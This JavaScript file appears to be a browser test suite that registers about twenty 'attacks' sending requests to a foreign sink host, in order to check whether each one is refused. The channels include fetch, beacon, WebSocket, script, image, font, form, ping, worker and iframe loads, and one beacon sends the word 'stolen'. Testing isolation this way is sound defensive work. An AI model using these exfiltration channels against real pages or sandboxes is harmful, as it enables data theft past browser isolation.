import { added, addAttacks, framed, pause } from "./attempt.js";

/** The foreign host counts what arrives; these end when the browser had the time to send. */
const IN_TIME_MS = 500;

/** @param {() => unknown} send */
const sentBlindly = (send) => async () => {
  send();
  await pause(IN_TIME_MS);
  return "refused";
};

/** @param {string} tag @param {(sink: string) => Record<string, string>} attributes */
const sentBy =
  (tag, attributes) =>
  /** @param {{ sink: string }} places */ async ({ sink }) =>
    (await added(tag, attributes(`${sink}/${tag}`))).tagName;

addAttacks("sending", {
  sendsByFetch: async ({ sink }) => (await fetch(`${sink}/fetch`)).status,
  sendsByBlindFetch: async ({ sink }) => (await fetch(`${sink}/blind`, { mode: "no-cors", keepalive: true })).type,
  sendsByBeacon: ({ sink }) => sentBlindly(() => navigator.sendBeacon(`${sink}/beacon`, "stolen"))(),
  sendsBySocket: ({ sink }) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${sink.replace("http", "ws")}/socket`);
      socket.addEventListener("open", () => resolve("open"));
      socket.addEventListener("error", () => reject(new Error("refused")));
    }),
  sendsByEventSource: ({ sink }) =>
    new Promise((resolve, reject) => {
      const source = new EventSource(`${sink}/events`);
      source.addEventListener("open", () => resolve("open"));
      source.addEventListener("error", () => reject(new Error("refused")));
    }),
  sendsByImage: sentBy("img", (address) => ({ src: address })),
  sendsByScript: sentBy("script", (address) => ({ src: address })),
  sendsByStylesheet: sentBy("link", (address) => ({ rel: "stylesheet", href: address })),
  sendsByPrefetch: sentBy("link", (address) => ({ rel: "prefetch", href: `${address}-ahead` })),
  sendsByModule: async ({ sink }) => Object.keys(await import(`${sink}/module.js`)).length,
  sendsByVideo: ({ sink }) =>
    new Promise((resolve, reject) => {
      const video = document.createElement("video");
      video.addEventListener("loadeddata", () => resolve("loaded"));
      video.addEventListener("error", () => reject(new Error("refused")));
      video.src = `${sink}/video`;
      document.body.append(video);
    }),
  sendsByFont: async ({ sink }) => (await new FontFace("stolen", `url(${sink}/font)`).load()).status,
  sendsByBackground: ({ sink }) =>
    sentBlindly(() => (document.body.style.backgroundImage = `url(${sink}/background)`))(),
  sendsByForm: ({ sink }) =>
    sentBlindly(() => {
      const form = document.createElement("form");
      Object.assign(form, { action: `${sink}/form`, method: "post" });
      document.body.append(form);
      form.submit();
    })(),
  sendsByPing: ({ sink }) =>
    sentBlindly(() => {
      const link = document.createElement("a");
      Object.assign(link, { href: "#", ping: `${sink}/ping` });
      document.body.append(link);
      link.click();
    })(),
  sendsByFrame: async ({ sink }) => {
    const found = await framed(`${sink}/frame`);
    return found === "refused" ? found : found.length;
  },
  sendsByWorker: ({ sink }) =>
    new Promise((resolve, reject) => {
      const source = `try { importScripts(${JSON.stringify(`${sink}/worker`)}); postMessage("loaded"); } catch { postMessage("refused"); }`;
      const worker = new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })));
      worker.addEventListener("message", ({ data }) => resolve(data));
      worker.addEventListener("error", () => reject(new Error("refused")));
    }),
  sendsByFrameOfItsOwn: async ({ sink }) => {
    const frame = await added("iframe", { srcdoc: "<p>inner</p>" });
    return (await frame.contentWindow.fetch(`${sink}/inner`)).status;
  },
});
